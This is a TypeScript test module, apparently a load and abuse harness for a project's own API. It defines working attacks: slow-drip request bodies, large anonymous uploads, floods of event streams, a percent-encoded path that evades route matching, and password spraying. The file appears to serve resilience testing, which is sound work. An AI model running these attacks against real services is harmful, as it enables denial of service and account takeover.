import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

import { atOnce, post, type Attack, type Statuses, type Target } from './attack.ts';

/** How long connections of one wave are held open, ms. */
const heldMs = 1500;

function count(counted: Statuses, status: number): void {
  counted[status] = (counted[status] ?? 0) + 1;
}

/**
 * A connection that sent the head of a request and `body`; counts the status of the response, and 0 for a broken
 * connection.
 */
async function begin(
  { url }: Pick<Target, 'url'>,
  head: readonly string[],
  body: string,
  counted: Statuses,
  localAddress?: string,
): Promise<Socket> {
  const { hostname, port, host } = new URL(url);
  const from = localAddress === undefined || process.platform !== 'linux' ? {} : { localAddress };
  const socket = connect({ port: Number(port), host: hostname, ...from });
  socket.on('error', () => undefined);
  socket.once('data', (answer) => count(counted, Number(/^HTTP\/1\.1 (\d+)/.exec(String(answer))?.[1] ?? 0)));
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined);
  if (!socket.destroyed) socket.write([...head, `Host: ${host}`, '', body].join('\r\n'));
  return socket;
}

const piece = 'x'.repeat(64 * 1024);

/** Sends as long as the other end reads. */
function sendOn(socket: Socket): void {
  const more = (): void => {
    while (socket.writable && socket.write(piece));
  };
  socket.on('drain', more);
  more();
}

/** Anonymous files of 80 MB, forty at a time. */
export const anonymousUploads: Attack = {
  name: 'uploads of 80 MB without a token, 40 at once',
  async wave(target) {
    const counted: Statuses = {};
    const head = ['POST /api/2.0/user/media/images?file=a.png HTTP/1.1', 'Content-Length: 80000000'];
    const sockets = await Promise.all(Array.from({ length: 40 }, () => begin(target, head, '', counted)));
    for (const socket of sockets) sendOn(socket);
    await pause(heldMs);
    for (const socket of sockets) socket.destroy();
    return counted;
  },
};

/** Bodies that stop just before their end. */
export const slowBodies: Attack = {
  name: 'bodies of a sign-in that do not end, 400 at once',
  async wave(target) {
    const counted: Statuses = {};
    const head = ['POST /api/2.0/user/token HTTP/1.1', 'Content-Length: 250000'];
    const sockets = await Promise.all(
      Array.from({ length: 400 }, () => begin(target, head, 'x'.repeat(249_000), counted)),
    );
    await pause(heldMs);
    for (const socket of sockets) socket.destroy();
    return counted;
  },
};

/** Sign-ins of two addresses that announce much and send little, to use up the limit of all strangers. */
export const drippingSignIns: Attack = {
  name: 'sign-ins that announce 256 KB and drip, 128 of each of 2 addresses',
  async wave(target) {
    const counted: Statuses = {};
    const head = ['POST /api/2.0/user/token HTTP/1.1', 'Content-Length: 262144'];
    // Not the address of the honest client.
    const sockets = await Promise.all(
      Array.from({ length: 256 }, (_, n) =>
        begin(target, head, '{"e', counted, n % 2 === 0 ? '127.0.0.3' : '127.0.0.4'),
      ),
    );
    await drip(sockets);
    return counted;
  },
};

/** The same for the limit of all signed-in people: guides that stop just before their end. */
export const drippingGuides: Attack = {
  name: 'guides of 2 MB that do not end, 16 of each of 6 accounts',
  async wave(target) {
    const counted: Statuses = {};
    const sockets = await Promise.all(
      target.readers.flatMap((token) => {
        const head = [
          'POST /api/2.0/guides HTTP/1.1',
          `Authorization: api ${token}`,
          'Content-Length: 2097152',
        ];
        return Array.from({ length: 16 }, () => begin(target, head, 'x'.repeat(2_000_000), counted));
      }),
    );
    await drip(sockets);
    return counted;
  },
};

/** The maximum that a learner with one open module can make the player read. */
export const drippingModule: Attack = {
  name: 'data of a training module that does not end, 600 of 1 MB by one learner',
  async wave({ module }) {
    const counted: Statuses = {};
    const { pathname, origin } = new URL('activities/0/data', module);
    const head = [`POST ${pathname} HTTP/1.1`, 'Content-Length: 1000000'];
    const sockets = await Promise.all(
      Array.from({ length: 600 }, () => begin({ url: origin }, head, 'x'.repeat(990_000), counted)),
    );
    await drip(sockets);
    return counted;
  },
};

/** Sends a byte now and then over each for the time of a wave, and then ends them. */
async function drip(sockets: readonly Socket[]): Promise<void> {
  for (let at = 0; at < heldMs; at += 300) {
    for (const socket of sockets) if (socket.writable) socket.write('x');
    await pause(300);
  }
  for (const socket of sockets) socket.destroy();
}

/** Event streams of one person. */
export const manyStreams: Attack = {
  name: '1,000 event streams by one token',
  async wave(target) {
    const counted: Statuses = {};
    const { checkpoint } = target;
    const head = [
      `GET /sync/1/events?since=${encodeURIComponent(checkpoint)} HTTP/1.1`,
      `Authorization: api ${target.reader}`,
    ];
    const sockets: Socket[] = [];
    for (let round = 0; round < 10; round += 1)
      sockets.push(
        ...(await Promise.all(Array.from({ length: 100 }, () => begin(target, head, '', counted)))),
      );
    await pause(heldMs);
    for (const socket of sockets) socket.destroy();
    return counted;
  },
};

/** Initial loads and complete pulls that are not read. */
export const abandonedLoads: Attack = {
  name: '200 first loads and pulls by one token, given up',
  async wave(target) {
    const counted: Statuses = {};
    const since = encodeURIComponent(target.checkpoint);
    const paths = ['/sync/1/bootstrap', `/sync/1/pull?limit=2000&since=${since}`];
    const sockets = await Promise.all(
      Array.from({ length: 200 }, (_, n) => {
        const head = [`GET ${paths[n % 2]} HTTP/1.1`, `Authorization: api ${target.reader}`];
        return begin(target, head, '', counted);
      }),
    );
    await pause(heldMs);
    for (const socket of sockets) socket.destroy();
    return counted;
  },
};

/** Anonymous reads with an escaped address, which a text comparison does not match. */
export const escapedReads: Attack = {
  name: '2,000 reads without a token, escaped',
  async wave({ url }) {
    const counted: Statuses = {};
    for (let round = 0; round < 40; round += 1)
      await atOnce(50, async () => {
        const response = await fetch(`${url}/%61pi/2.0/guides?limit=50`);
        await response.arrayBuffer();
        count(counted, response.status);
      });
    return counted;
  },
};

let sprayed = 0;

/** One password for many accounts. */
export const spraying: Attack = {
  name: '200 accounts tried by one address, 10 at once',
  async wave(target) {
    const counted: Statuses = {};
    for (let round = 0; round < 20; round += 1)
      await atOnce(10, () => {
        sprayed += 1;
        const body = JSON.stringify({ email: `person${sprayed}@example.com`, password: 'Winter2026!' });
        return post(target, '/user/token', null, body, counted);
      });
    return counted;
  },
};
